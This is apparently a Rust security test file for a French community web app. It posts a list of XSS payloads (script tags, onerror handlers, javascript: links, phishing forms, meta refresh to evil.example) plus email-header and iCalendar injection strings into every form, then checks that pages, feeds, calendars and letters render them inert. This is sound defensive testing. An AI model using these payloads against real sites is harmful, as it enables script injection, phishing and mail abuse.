//! Text that is meant to become something else: through every form into every page, feed, calendar and letter.

use std::collections::BTreeSet;

use preau::world::system_now;
use preau_core::world::Moment;
use preau_tests::on_both_engines;
use preau_tests::visitor::{Page, Visitor, is_html};
use scraper::{Html, Selector};

use crate::crawl::crawl;
use crate::scene::{NOUR, ODILE, PHOTO, Scene, THOMAS};

/// Found wherever the text is shown.
const CANARY: &str = "Canari";
/// H01, H03, H04, H05: what would run, load, or look like a part of the page.
const ACTIVE: [&str; 24] = [
    "<script>alert(1)</script>",
    "<img src=https://evil.example/pixel.png onerror=alert(1)>",
    "<svg onload=alert(1)><animate href=javascript:alert(1) attributeName=href values=javascript:alert(1)>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button>Entrer</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>body{display:none}</style>",
    "<a style='position:fixed;inset:0' class='btn vis' id='f-body' href=https://evil.example>clic</a>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script-->",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "\"><img src=x onerror=alert(1)>' autofocus onfocus=alert(1) x='",
    "[clic](javascript:alert(1)) [clic](JaVaScRiPt&colon;alert(1)) [clic](jav&#9;ascript:alert(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD4=) [clic](vbscript:x) [clic](magnet:?xt=1) [clic](intent://x) [clic](blob:x)",
    "[lettre](mailto:a@b.example?bcc=tous@evil.example&body=x) <mailto:a@b.example?cc=x@evil.example>",
    "![pixel](https://evil.example/pixel.png) [clic](//evil.example) ![x](javascript:alert(1))",
    "{{7*7}} ${7*7} <%= 7*7 %> &lt;script&gt;alert(1)&lt;/script&gt;",
    "[dehors](https://dehors.example/page) https://dehors.example/nu",
];

/// A line with everything that fits into so many characters, marked.
fn line(part: usize, chars: usize) -> String {
    let text = format!("{CANARY} {}", ACTIVE[part % ACTIVE.len()]);
    text.chars().take(chars).collect()
}

/// Everything at once, a paragraph each.
fn all() -> String {
    ACTIVE.iter().map(|text| format!("{CANARY} {text}")).collect::<Vec<_>>().join("\n\n")
}

on_both_engines! {
    async fn h01_h02_h03_h04_h05_h13_nothing_that_is_typed_becomes_a_part_of_a_page(trial: Trial) {
        let scene = Scene::open(trial).await;
        fill_every_form(&scene).await;
        let mut shown = BTreeSet::new();
        for visitor in [scene.stranger(), scene.browser(NOUR), scene.browser(ODILE)] {
            let found = crawl(&visitor, &["/", "/agenda", "/presentation", "/mentions-legales", "/vos-donnees"]).await;
            for (address, page) in &found.pages {
                if is_html(page) && page.html().contains(CANARY) {
                    inert(address, page);
                    shown.insert(address.split('/').nth(1).unwrap_or_default().split('?').next().unwrap().to_owned());
                }
            }
        }
        for room in ["", "messages", "rendez-vous", "agenda", "membres", "gestion", "presentation", "mentions-legales"] {
            assert!(shown.contains(room), "the text was not seen in /{room}: {shown:?}");
        }
    }

    async fn h13_a_link_that_leads_away_says_nothing_of_where_one_comes_from(trial: Trial) {
        let scene = Scene::bare(trial).await;
        publish(&scene.browser(ODILE), "", &all(), false).await;
        let page = scene.browser(NOUR).get("/fil").await;
        let html = Html::parse_document(&page.html());
        let away: Vec<_> = html.select(&Selector::parse("a[href^='https://dehors.example']").unwrap()).collect();
        assert!(away.len() >= 2, "links of the text are there");
        for link in away {
            let rel = link.value().attr("rel").unwrap_or_default();
            for word in ["noopener", "noreferrer", "nofollow"] {
                assert!(rel.contains(word), "{rel}");
            }
        }
        assert_eq!(page.header("referrer-policy"), Some("same-origin"));
    }

    async fn h09_a_feed_and_a_calendar_escape_what_would_end_them(trial: Trial) {
        let scene = Scene::open(trial).await;
        fill_every_form(&scene).await;
        let stranger = scene.stranger();
        let atom = stranger.get_bare("/atom.xml").await;
        let text = atom.is(200).html();
        assert!(atom.header("content-type").unwrap().starts_with("application/atom+xml") && text.contains(CANARY));
        for raw in ["<script", "<img", "<svg", "]]>", "<iframe", "</title><script"] {
            assert!(!text.contains(raw), "{raw} in the feed:\n{text}");
        }
        well_formed(&text);
        let made = scene.browser(NOUR).post("/settings/calendar", &[("wanted", "make")]).await;
        let private = made.attributes("input#address", "value")[0].clone();
        for path in [private.as_str(), "/agenda/public.ics"] {
            let ics = stranger.get_bare(path).await.is(200).html();
            let unfolded = ics.replace("\r\n ", "");
            for line in unfolded.lines() {
                let name = line.split([':', ';']).next().unwrap();
                assert!(name.chars().all(|c| c.is_ascii_uppercase() || c == '-'), "a line of the calendar begins with {name:?}");
                assert!(!matches!(name, "ATTENDEE" | "ORGANIZER" | "ATTACH" | "X-INJECTED"), "{line}");
            }
            assert_eq!(unfolded.matches("BEGIN:VCALENDAR").count(), 1);
        }
        assert!(stranger.get_bare(&private).await.html().contains(CANARY));
    }

    async fn m01_m03_h01_a_letter_holds_what_was_typed_as_words(trial: Trial) {
        let scene = Scene::bare(trial).await;
        let name = "Canari <script>alert(1)</script>";
        scene.stranger().post("/join", &[("name", name), ("mail", "voisine@ailleurs.example"), ("note", &line(0, 200))]).await.is(303);
        for injected in ["voisine@ailleurs.example\r\nBcc: tous@evil.example", "a@b.example,c@d.example", "\"x\"@evil.example\n.example", "a@b.example%0aBcc:x@y.example"] {
            let page = scene.stranger().post("/join", &[("name", "Une Voisine"), ("mail", injected), ("note", "")]).await;
            assert!(matches!(page.status.as_u16(), 422 | 429), "{injected:?}: {}", page.status);
        }
        let invited = [("mail", "invitee@ailleurs.example"), ("name", "Canari\r\nBcc: tous@evil.example"), ("language", "fr")];
        let odile = scene.browser(ODILE);
        odile.post("/settings/profile", &[("name", name), ("language", "fr")]).await.is(303);
        odile.post("/manage/invitations/letters", &invited).await;
        let invited = [("mail", "voisin@ailleurs.example"), ("name", name), ("language", "en")];
        odile.post("/manage/invitations/letters", &invited).await.is(303);
        scene.house.letter("voisin@ailleurs.example", 1).await;
        let letters = scene.house.letters();
        assert!(letters.iter().any(|letter| letter.text.contains(CANARY) || letter.subject.contains(CANARY)), "{letters:?}");
        for letter in letters {
            let (head, body) = letter.raw.split_once("\r\n\r\n").unwrap();
            for line in head.lines() {
                let lower = line.to_ascii_lowercase();
                assert!(!lower.starts_with("bcc:") && !lower.starts_with("cc:"), "{head}");
            }
            assert!(!letter.to.contains("evil"), "{head}");
            // In the plain part these are words; in the other they would be more.
            let (_, html) = body.split_once("text/html").unwrap();
            assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
        }
    }
}

async fn publish(visitor: &Visitor, title: &str, body: &str, public: bool) -> Page {
    let form = visitor.get("/fil/nouveau").await.form("Publier").fill("title", title).fill("body", body);
    let form = form.fill("alt0", &line(17, 200)).attach(
        "file0",
        "<img src=x onerror=alert(1)>.jpg",
        "image/jpeg",
        PHOTO.to_vec(),
    );
    if !public {
        return form.send().await;
    }
    let again = form.fill("audience", "everybody").send().await;
    inert("/fil/nouveau", &again);
    let button = if again.html().contains("Publier pour tout le monde") {
        "Publier pour tout le monde"
    } else {
        "Proposer ce message"
    };
    again.form(button).send().await
}

/// Every form in which somebody types words that others read.
async fn fill_every_form(scene: &Scene) {
    let (odile, nour) = (scene.browser(ODILE), scene.browser(NOUR));
    publish(&nour, &line(0, 100), &all(), false).await.is(200);
    publish(&odile, &line(15, 100), &all(), true).await.is(200);
    publish(&nour, &line(16, 100), &all(), true).await.is(200);
    let reply = nour.get(&format!("/messages/{}/repondre", scene.things.section)).await;
    reply.form("Répondre").fill("body", &all()).send().await.is(200);
    nour.get(&format!("/messages/{}/modifier", scene.things.section))
        .await
        .form("Enregistrer")
        .fill("body", &all())
        .send()
        .await
        .is(200);
    for (visitor, audience) in [(&nour, "section"), (&odile, "everybody")] {
        let form = visitor.get("/agenda/nouveau").await.form("Proposer");
        let form = form
            .fill("title", &line(1, 100))
            .fill("date", "2030-05-01")
            .fill("starts", "18:30")
            .fill("place", &line(7, 100));
        let injected =
            format!("{}\r\nATTENDEE:mailto:x@evil.example\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR", all());
        form.fill("body", &all()).fill("audience", audience).send().await.is(200);
        // A near one too, which the home page shows, and calendars.
        let near = visitor.get("/agenda/nouveau").await.form("Proposer");
        let date = system_now().plus(2 * Moment::DAY).rfc3339().split('T').next().unwrap().to_owned();
        let near = near.fill("title", &line(17, 100)).fill("date", &date).fill("starts", "23:59");
        let near = near.fill("place", &line(2, 100)).fill("audience", audience);
        near.fill("body", &injected).send().await.is(200);
    }
    let link = nour
        .get("/agenda/nouveau")
        .await
        .form("Proposer")
        .fill("title", "Lien")
        .fill("date", "2030-05-01")
        .fill("starts", "18:30");
    let link = link.fill("link", "javascript:alert(1)").send().await;
    assert_eq!(link.status, 422, "a link that is no https address");
    nour.post("/settings/profile", &[("name", &line(0, 60)), ("language", "fr")]).await.is(303);
    let thomas = scene.house.people[THOMAS].id;
    odile.post(&format!("/manage/people/{thomas}/title"), &[("title", &line(1, 60))]).await.is(303);
    let settings = odile.get("/gestion/reglages").await.form("Enregistrer");
    let settings = ["organisation", "level_above", "territory", "contact_place", "contact_line", "publisher"]
        .into_iter()
        .enumerate()
        .fold(settings, |form, (number, field)| form.fill(field, &line(number, 60)));
    settings
        .fill("name", &line(17, 60))
        .fill("about", &all().chars().take(900).collect::<String>())
        .send()
        .await
        .is(200);
    scene
        .stranger()
        .post(
            "/join",
            &[("name", &line(0, 60)), ("mail", "voisine@ailleurs.example"), ("note", &line(8, 200))],
        )
        .await
        .is(303);
    scene
        .browser(ODILE)
        .post(
            "/manage/invitations/letters",
            &[("mail", "invitee@ailleurs.example"), ("name", &line(1, 60)), ("language", "fr")],
        )
        .await;
}

/// Nothing on the page runs, loads or leads where ours does not.
fn inert(address: &str, page: &Page) {
    let own = page.url.origin().ascii_serialization();
    let html = Html::parse_document(&page.html());
    for element in html.select(&Selector::parse("*").unwrap()) {
        let value = element.value();
        let name = value.name();
        let dead = [
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "math",
            "template",
            "xmp",
            "noscript",
            "animate",
            "set",
            "frame",
            "annotation-xml",
        ];
        assert!(!dead.contains(&name), "{address}: <{name}>");
        assert!(
            name != "script" || value.attr("src").is_some_and(|src| src.starts_with("/assets/")),
            "{address}: a script"
        );
        assert!(name != "meta" || value.attr("http-equiv").is_none(), "{address}: a refresh");
        for (attribute, text) in value.attrs() {
            assert!(
                !attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc",
                "{address}: {attribute}={text}"
            );
            if matches!(attribute, "src" | "action" | "formaction" | "srcset" | "data" | "poster")
                || (attribute == "href" && name != "a")
            {
                assert!(
                    text.starts_with('/') && !text.starts_with("//")
                        || text.starts_with('#')
                        || text.starts_with(&own)
                        || text.is_empty(),
                    "{address}: <{name} {attribute}={text}>"
                );
            }
            if attribute == "href" && name == "a" {
                let known = ["/", "#", "?", "https://", "http://", "mailto:", "webcal:"]
                    .iter()
                    .any(|start| text.starts_with(start));
                assert!(known && !text.starts_with("//"), "{address}: a link to {text}");
                assert!(!text.starts_with("mailto:") || !text.contains("evil"), "{address}: {text}");
            }
        }
    }
    // What members wrote stands in blocks of its own, without a class, an id or a form of theirs.
    for selector in ["a.btn.vis", "a#f-body", "input[name=password]"] {
        let parsed = Selector::parse(selector).unwrap();
        let planted = html
            .select(&parsed)
            .filter(|element| element.value().attr("href").is_some_and(|href| href.contains("evil")));
        assert_eq!(planted.count(), 0, "{address}: {selector}");
    }
}

/// Every element that opens is closed, in order: what an XML reader asks before anything else.
fn well_formed(xml: &str) {
    let mut open = Vec::new();
    let mut rest = xml;
    while let Some((_, after)) = rest.split_once('<') {
        let (tag, next) = after.split_once('>').unwrap();
        rest = next;
        let name = |tag: &str| tag.split([' ', '\n', '/']).next().unwrap().to_owned();
        match tag.chars().next() {
            Some('?' | '!') => {}
            Some('/') => {
                let closed = tag.strip_prefix('/').map(|name| name.trim().to_owned());
                assert_eq!(open.pop(), closed, "in <{tag}>");
            }
            _ if tag.ends_with('/') => {}
            _ => open.push(name(tag)),
        }
    }
    assert_eq!(open, Vec::<String>::new());
}
